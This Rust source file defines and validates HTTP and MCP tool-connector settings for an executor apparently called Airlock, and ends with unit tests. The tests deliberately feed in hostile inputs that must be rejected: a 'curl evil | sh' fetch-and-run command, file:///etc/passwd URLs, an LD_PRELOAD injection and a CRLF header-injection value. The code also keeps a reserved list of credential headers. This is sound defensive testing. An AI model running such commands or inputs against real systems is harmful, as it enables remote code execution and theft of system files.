//! Connector settings: how the executor reaches a tool.
//!
//! An MCP connector names an upstream MCP server (a program Airlock starts over stdio, or a
//! streamable-HTTP endpoint; see [`airlock_mcp::client::UpstreamSpec`]) and the upstream's name
//! for the tool.
//!
//! An HTTP connector names a method, a URL template whose `{placeholders}` are filled from
//! top-level string or number arguments (percent-encoded), extra headers, what to send as the
//! body, how long to wait, and how to recognise success: the expected statuses and,
//! optionally, a JSON pointer to the id the upstream returns. Settings are parsed once, at
//! registration, and refused with a clear reason when they do not make sense.

use std::collections::BTreeMap;

use airlock_mcp::client::UpstreamSpec;
use serde::{Deserialize, Serialize};

/// A connector whose settings were refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ConnectorError {
    /// The settings are not of the expected shape.
    #[error("invalid connector: {0}")]
    Invalid(String),
}

/// An HTTP method a connector may use.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum HttpMethod {
    /// GET
    Get,
    /// POST
    Post,
    /// PUT
    Put,
    /// PATCH
    Patch,
    /// DELETE
    Delete,
}

impl HttpMethod {
    /// Whether repeating the request is safe, so it may be retried on failure.
    #[must_use]
    pub fn is_idempotent(self) -> bool {
        matches!(self, Self::Get | Self::Put | Self::Delete)
    }
}

/// What an HTTP connector sends as the request body.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum BodyMapping {
    /// The arguments, as a JSON object.
    #[default]
    Arguments,
    /// Nothing.
    None,
}

/// An HTTP connector's settings.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct HttpConnector {
    /// The method.
    pub method: HttpMethod,
    /// `http(s)://host/path/{argument}` — placeholders name top-level arguments.
    pub url: String,
    /// Extra request headers (never credentials: those come from the tool's credential).
    #[serde(default)]
    pub headers: BTreeMap<String, String>,
    /// What to send as the body.
    #[serde(default)]
    pub body: BodyMapping,
    /// A JSON pointer into the response body selecting what the agent gets back (the whole
    /// body when absent).
    #[serde(default)]
    pub response_pointer: Option<String>,
    /// How long to wait for the upstream, in milliseconds (default 10000, at most 120000).
    #[serde(default = "default_timeout")]
    pub timeout_ms: u64,
    /// Statuses that mean the call succeeded (default: any 2xx).
    #[serde(default)]
    pub expect_status: Vec<u16>,
    /// A JSON pointer to the id the upstream returns; when set, success requires it.
    #[serde(default)]
    pub returned_id_pointer: Option<String>,
    /// The header carrying the idempotency key, when the upstream honours one (which also
    /// makes non-idempotent methods safe to retry).
    #[serde(default)]
    pub idempotency_header: Option<String>,
}

fn default_timeout() -> u64 {
    10_000
}

/// An MCP connector's settings: a tool of an upstream MCP server.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct McpConnector {
    /// Where the server is and how to reach it.
    pub server: UpstreamSpec,
    /// The upstream's name for the tool.
    pub tool: String,
}

/// A tool's connector.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Connector {
    /// An HTTP API.
    Http(HttpConnector),
    /// A tool of an upstream MCP server.
    Mcp(McpConnector),
}

/// Headers a connector may not set: credentials are the executor's alone, and hop-by-hop or
/// framing headers are the HTTP client's.
const RESERVED_HEADERS: &[&str] = &[
    "authorization",
    "proxy-authorization",
    "cookie",
    "host",
    "content-length",
    "transfer-encoding",
    "connection",
];

impl Connector {
    /// Parses and checks connector settings.
    pub fn parse(value: &serde_json::Value) -> Result<Self, ConnectorError> {
        let connector: Connector =
            serde_json::from_value(value.clone()).map_err(|e| ConnectorError::Invalid(e.to_string()))?;
        match &connector {
            Connector::Http(http) => http.check()?,
            Connector::Mcp(mcp) => mcp.check()?,
        }
        Ok(connector)
    }

    /// The settings as JSON, to store.
    #[must_use]
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::to_value(self).unwrap_or_default()
    }
}

impl McpConnector {
    fn check(&self) -> Result<(), ConnectorError> {
        self.server.check().map_err(|e| ConnectorError::Invalid(e.to_string()))?;
        if self.tool.is_empty() || self.tool.len() > 128 || self.tool.chars().any(char::is_control) {
            return Err(ConnectorError::Invalid(format!(
                "`tool` must name the upstream's tool, not `{}`",
                bounded(&self.tool)
            )));
        }
        Ok(())
    }
}

impl HttpConnector {
    fn check(&self) -> Result<(), ConnectorError> {
        let invalid = |m: String| Err(ConnectorError::Invalid(m));
        let rest = match self.url.strip_prefix("https://").or_else(|| self.url.strip_prefix("http://")) {
            Some(rest) => rest,
            None => {
                return invalid(format!(
                    "`url` must start with http:// or https://, not `{}`",
                    bounded(&self.url)
                ));
            }
        };
        let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
        if host.is_empty() || host.contains(['{', '}', '@']) {
            return invalid("the URL's host must be fixed: no placeholders or credentials in it".into());
        }
        for name in self.placeholders()? {
            if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
                return invalid(format!("placeholder `{{{name}}}` must name a top-level argument"));
            }
        }
        for (name, value) in &self.headers {
            let lower = name.to_ascii_lowercase();
            if RESERVED_HEADERS.contains(&lower.as_str()) {
                return invalid(format!(
                    "header `{name}` is reserved: credentials belong in the tool's credential"
                ));
            }
            if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
                return invalid(format!("`{}` is not a header name", bounded(name)));
            }
            if value.chars().any(|c| c.is_control()) {
                return invalid(format!("header `{name}` has a control character in its value"));
            }
        }
        if !(1..=120_000).contains(&self.timeout_ms) {
            return invalid("`timeout_ms` must be between 1 and 120000".into());
        }
        if self.expect_status.iter().any(|s| !(100..=599).contains(s)) {
            return invalid("`expect_status` must hold HTTP statuses (100-599)".into());
        }
        for pointer in [&self.response_pointer, &self.returned_id_pointer].into_iter().flatten() {
            if !pointer.is_empty() && !pointer.starts_with('/') {
                return invalid(format!(
                    "`{}` is not a JSON pointer (it must start with `/`)",
                    bounded(pointer)
                ));
            }
        }
        if self.method == HttpMethod::Get && self.body == BodyMapping::Arguments {
            return invalid("a GET connector cannot send the arguments as a body; use `\"body\": \"none\"` and URL placeholders".into());
        }
        Ok(())
    }

    /// The argument names the URL template uses.
    pub fn placeholders(&self) -> Result<Vec<String>, ConnectorError> {
        let mut names = Vec::new();
        let mut rest = self.url.as_str();
        while let Some(open) = rest.find('{') {
            let after = rest.get(open + 1..).unwrap_or_default();
            let close = after
                .find('}')
                .ok_or_else(|| ConnectorError::Invalid("an unclosed `{` in the URL template".into()))?;
            names.push(after.get(..close).unwrap_or_default().to_owned());
            rest = after.get(close + 1..).unwrap_or_default();
        }
        if rest.contains('}') {
            return Err(ConnectorError::Invalid("an unmatched `}` in the URL template".into()));
        }
        Ok(names)
    }
}

fn bounded(text: &str) -> String {
    text.chars().take(120).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_complete_http_connector_parses() {
        let connector = Connector::parse(&json!({
            "kind": "http", "method": "POST", "url": "https://mail.example.com/v1/send/{mailbox}",
            "headers": {"x-team": "ops"}, "expect_status": [201], "returned_id_pointer": "/id",
            "idempotency_header": "Idempotency-Key"
        }))
        .unwrap();
        let Connector::Http(http) = &connector else { panic!("an HTTP connector") };
        assert_eq!(http.placeholders().unwrap(), ["mailbox"]);
        assert_eq!(http.timeout_ms, 10_000);
        assert_eq!(Connector::parse(&connector.to_json()).unwrap(), connector);
    }

    #[test]
    fn unsafe_or_meaningless_settings_are_refused() {
        for bad in [
            json!({"kind": "ftp", "url": "ftp://x"}),
            json!({"kind": "http", "method": "POST", "url": "file:///etc/passwd"}),
            json!({"kind": "http", "method": "POST", "url": "https://{host}/x"}),
            json!({"kind": "http", "method": "POST", "url": "https://user:pw@example.com/x"}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/{a b}"}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/{open"}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "headers": {"Authorization": "Bearer x"}}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "headers": {"x": "a\r\nb"}}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "timeout_ms": 0}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "expect_status": [42]}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "returned_id_pointer": "id"}),
            json!({"kind": "http", "method": "GET", "url": "https://example.com/x"}),
            json!({"kind": "http", "method": "TRACE", "url": "https://example.com/x"}),
            json!({"kind": "http", "method": "POST", "url": "https://example.com/x", "surprise": 1}),
        ] {
            assert!(Connector::parse(&bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn mcp_connectors_parse_and_unsafe_commands_are_refused() {
        let connector = Connector::parse(&json!({
            "kind": "mcp", "tool": "read_text_file",
            "server": {"kind": "stdio", "command": "npx", "args": ["-y", "server"], "credential_env": "TOKEN"}
        }))
        .unwrap();
        assert!(matches!(&connector, Connector::Mcp(m) if m.tool == "read_text_file"));
        assert_eq!(Connector::parse(&connector.to_json()).unwrap(), connector);
        Connector::parse(&json!({
            "kind": "mcp", "tool": "echo", "server": {"kind": "streamable_http", "url": "https://tools.example.com/mcp"}
        }))
        .unwrap();
        for bad in [
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "stdio", "command": "sh -c 'curl evil | sh'"}}),
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "stdio", "command": "../bin/server"}}),
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "stdio", "command": "node", "env": {"LD_PRELOAD": "/x"}}}),
            json!({"kind": "mcp", "tool": "", "server": {"kind": "stdio", "command": "node"}}),
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "streamable_http", "url": "file:///etc"}}),
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "websocket", "url": "ws://x"}}),
            json!({"kind": "mcp", "tool": "x", "server": {"kind": "stdio", "command": "node"}, "extra": 1}),
        ] {
            assert!(Connector::parse(&bad).is_err(), "{bad}");
        }
    }
}
